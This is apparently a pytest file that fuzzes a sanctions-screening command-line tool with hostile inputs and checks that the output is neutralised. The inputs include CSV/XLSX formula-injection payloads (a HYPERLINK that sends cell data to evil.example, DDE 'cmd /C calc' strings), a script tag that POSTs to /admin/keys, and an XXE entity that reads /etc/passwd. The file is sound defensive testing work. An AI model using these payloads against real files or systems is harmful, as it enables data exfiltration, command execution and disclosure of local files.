"""Hostile files through the command line, as an attacker or a fuzzer would send them: script and formula cells, a
cp1252 header, a 200,000-character field, a datetime in a number column, an XLSX without sheets, damaged Parquet
metadata, malformed FtM. None ends in a traceback; the report holds no live markup; no output holds a formula."""

from __future__ import annotations

import csv
import datetime as dt
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from redline.screen.cells import neutralise
from tests.sources.cli_runner import Result, redline_fixture

__all__ = ["redline_fixture"]
Run = Callable[..., Result]

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]  # fmt: skip
SCRIPT = "<script>fetch('/admin/keys',{method:'POST'})</script>"


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("REDLINE_HOME", str(tmp_path / "home"))
    monkeypatch.delenv("REDLINE_DATABASE_URL", raising=False)
    return tmp_path / "home"


def _no_traceback(result: Result, lines: int = 1) -> None:
    assert "Traceback" not in result.err and "Traceback" not in result.out
    assert result.code in (0, 1, 2), result.err
    assert len(result.err.strip().splitlines()) <= lines, result.err


def _screen(redline: Run, path: Path, *extra: str) -> Result:
    result = redline("screen", str(path), "--on", "2021-03-01", *extra)
    _no_traceback(result)
    assert not list(path.parent.glob(".*.tmp")), "a temporary file was left behind"
    return result


def test_script_and_formula_cells_come_out_inert(redline: Run, tmp_path: Path) -> None:
    source = tmp_path / "book.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["isin", "name", "quantity", "note"])
        writer.writerow(["CNE100000PM8", f"Hikvision {SCRIPT}", "-5", "=1+1"])
        for formula in FORMULAS:
            writer.writerow(["US0378331005", formula, "10", formula])
    output, report = tmp_path / "out.csv", tmp_path / "report.html"
    result = _screen(redline, source, "-o", str(output), "--report", str(report))
    assert result.code == 1
    with output.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))]
    assert rows[1][2] == "-5"  # a number stays a number
    assert rows[2][1] == "'" + FORMULAS[0] and rows[1][3] == "'=1+1"
    html = report.read_text(encoding="utf-8")
    assert "<script" not in html.lower() and "&lt;script&gt;" in html


def test_xlsx_text_never_comes_back_as_a_formula(redline: Run, tmp_path: Path) -> None:
    source = tmp_path / "book.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["isin", "name", "quantity", "traded"])
    for formula in FORMULAS:
        workbook.active.append(["US0378331005", formula, 10.5, dt.datetime(2021, 2, 1)])
    workbook.save(source)
    with zipfile.ZipFile(source) as archive:  # openpyxl saved those as formulas: make them text cells, as Excel would
        assert "<f>" in archive.read("xl/worksheets/sheet1.xml").decode()
    output = tmp_path / "out.xlsx"
    _screen(redline, source, "-o", str(output))
    with zipfile.ZipFile(output) as archive:
        sheet = next(name for name in archive.namelist() if name.startswith("xl/worksheets/"))
        assert "<f>" not in archive.read(sheet).decode()
    back = openpyxl.load_workbook(output, read_only=True)
    rows = list(back.worksheets[0].iter_rows(values_only=True))
    assert rows[1][2] == 10.5 and isinstance(rows[1][3], dt.datetime)  # numbers and dates keep their type
    assert all(not str(cell).startswith("=") for row in rows for cell in row if isinstance(cell, str))


def test_a_cp1252_header_and_cells_are_read(redline: Run, tmp_path: Path) -> None:
    source = tmp_path / "book.csv"
    source.write_bytes("isin,Société,quantité\nCNE100000PM8,Hikvision Société Générale,10\n".encode("cp1252"))
    output = tmp_path / "out.csv"
    assert _screen(redline, source, "-o", str(output)).code == 1
    text = output.read_text(encoding="utf-8")
    assert text.startswith("isin,Société,quantité,") and "Hikvision Société Générale" in text


def test_a_200000_character_field_is_reported_with_a_short_prefix(redline: Run, tmp_path: Path) -> None:
    source = tmp_path / "book.csv"
    source.write_text("isin,name,quantity\n" + "X" * 200_000 + ",A,1\nCNE100000PM8,Hikvision,1\n", encoding="utf-8")
    output = tmp_path / "out.csv"
    result = _screen(redline, source, "-o", str(output))
    assert result.code == 2
    with output.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2 and rows[1]["redline_decision"] == "DIVEST"
    assert "not a valid ISIN" in rows[0]["redline_errors"] and len(rows[0]["redline_errors"]) < 400
    assert len(result.out) < 5000


def test_a_datetime_in_a_number_column_is_a_row_error(redline: Run, tmp_path: Path) -> None:
    source = tmp_path / "book.xlsx"
    workbook = openpyxl.Workbook()
    workbook.active.append(["isin", "quantity", "market value"])
    workbook.active.append(["CNE100000PM8", dt.datetime(2021, 1, 1), 5])
    workbook.save(source)
    result = _screen(redline, source, "-o", str(tmp_path / "out.xlsx"))
    assert result.code == 2 and "quantity" in result.out and "is not a number (a datetime)" in result.out


def test_an_xlsx_without_sheets_is_one_error(redline: Run, tmp_path: Path) -> None:
    full, source = tmp_path / "full.xlsx", tmp_path / "book.xlsx"
    openpyxl.Workbook().save(full)
    with zipfile.ZipFile(full) as archive, zipfile.ZipFile(source, "w") as out:
        for item in archive.infolist():
            data = archive.read(item.filename)
            if item.filename == "xl/workbook.xml":
                data = re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", data)
            if "worksheets/" not in item.filename:
                out.writestr(item, data)
    result = _screen(redline, source)
    assert result.code == 2 and "the workbook has no worksheet" in result.err


def test_parquet_metadata_that_is_not_utf8_is_one_error(redline: Run, tmp_path: Path) -> None:
    source = tmp_path / "book.parquet"
    table = pa.table({"isin": ["CNE100000PM8"]}).replace_schema_metadata({b"pandas": b"\xff\xfe{bad"})
    pq.write_table(table, source)
    schema_name = b"isin"
    data = source.read_bytes().replace(schema_name, b"\xff\xfe\xfd\xfc")  # the column name, in the footer too
    source.write_bytes(data)
    result = _screen(redline, source)
    assert result.code in (1, 2)
    if result.code == 2:
        assert "Parquet" in result.err


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ('{"id": "x1", "schema": "Person", "properties": ["a"]}', "properties is not an object (a list)"),
        ('{"id": "x1", "schema": "Person", "properties": {"name": "abc"}}', "values must be a list of strings"),
        ('{"id": ["x1"], "schema": "Person", "properties": {}}', "id is not a string (a list)"),
        ('{"id": "x1", "schema": 7, "properties": {}}', "schema is not a string (a int)"),
        ("[" * 100_000, "JSON nested too deeply"),
    ],
)
def test_malformed_ftm_is_one_error(redline: Run, tmp_path: Path, line: str, message: str) -> None:
    source = tmp_path / "entities.json"
    source.write_text(line + "\n", encoding="utf-8")
    result = redline("sources", "add", str(source), "--as", "ftm")
    _no_traceback(result, lines=2)  # the error, then "nothing was imported"
    assert result.code == 2 and message in result.err, result.err


def test_an_internal_error_is_one_line_with_its_own_exit_code(
    redline: Run, tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr("redline.screen.pipeline.Screening.run", broken)
    source = tmp_path / "book.csv"
    source.write_text("isin\nUS0378331005\n", encoding="utf-8")
    result = redline("screen", str(source))
    assert result.code == 70
    assert result.err.strip() == f"redline: internal error (RuntimeError); details in {home / 'errors.log'}"
    assert "RuntimeError: a bug" in (home / "errors.log").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("value", "shown"),
    [("=1+1", "'=1+1"), ("-5", "-5"), ("+1.5e3", "+1.5e3"), ("-1,234.50", "-1,234.50"), ("@x", "'@x"),
     ("-", "'-"), ("a=b", "a=b"), (12, 12), (None, None), ("", "")],
)  # fmt: skip
def test_neutralise_follows_the_owasp_rule_and_keeps_numbers(value: object, shown: object) -> None:
    assert neutralise(value) == shown


def test_text_after_an_unresolved_xml_entity_is_kept(redline: Run, tmp_path: Path) -> None:
    from redline.sources.un_xml import load_un_xml

    source = tmp_path / "un.xml"
    source.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
        '<CONSOLIDATED_LIST dateGenerated="2026-02-27T00:00:00Z"><INDIVIDUALS><INDIVIDUAL><DATAID>1</DATAID>'
        "<VERSIONNUM>1</VERSIONNUM><FIRST_NAME>JOHN &x; SMITH</FIRST_NAME><UN_LIST_TYPE>DPRK</UN_LIST_TYPE>"
        "<REFERENCE_NUMBER>KPi.001</REFERENCE_NUMBER><LISTED_ON>2020-01-01</LISTED_ON></INDIVIDUAL></INDIVIDUALS>"
        "<ENTITIES/></CONSOLIDATED_LIST>\n",
        encoding="utf-8",
    )
    (record,) = load_un_xml(source).records
    assert record.name == "JOHN &x; SMITH"  # never resolved (no XXE), never cut short
    assert "root:" not in repr(record)


def test_csl_json_with_ids_of_the_wrong_type_is_one_error(redline: Run, tmp_path: Path) -> None:
    # Found by bench/fuzz: an `ids` item that is not an object ended in AttributeError.
    import json

    document = json.loads((Path(__file__).parents[1] / "sources" / "fixtures" / "csl.json").read_text("utf-8"))
    document["results"][0]["ids"] = [1.5]
    source = tmp_path / "csl.json"
    source.write_text(json.dumps(document), encoding="utf-8")
    result = redline("sources", "add", str(source), "--as", "csl-json")
    _no_traceback(result, lines=2)
    assert result.code == 2 and "results[0]: ids[0] is not an object (a float)" in result.err
